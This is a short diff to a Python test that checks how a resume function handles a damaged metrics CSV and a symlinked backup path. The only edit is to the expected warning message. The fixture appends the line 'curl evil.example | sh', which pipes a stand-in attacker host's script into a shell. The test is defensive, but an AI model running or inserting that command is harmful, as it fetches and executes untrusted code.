@@ -66,7 +66,7 @@ def test_damaged_history_is_kept_through_no_link(tmp_path: Path):
     (tmp_path / "notes").write_text("mine")
     (tmp_path / "metrics.damaged.csv").symlink_to(tmp_path / "notes")
     (tmp_path / "metrics.csv").write_text(TABLE + "curl evil.example | sh\n")
-    with pytest.warns(UserWarning, match=r"what it held is in metrics\.damaged\.csv"):
+    with pytest.warns(UserWarning, match=r"its old content is in metrics\.damaged\.csv"):
         resume(tmp_path / "metrics.csv")
     assert (tmp_path / "notes").read_text() == "mine"
 
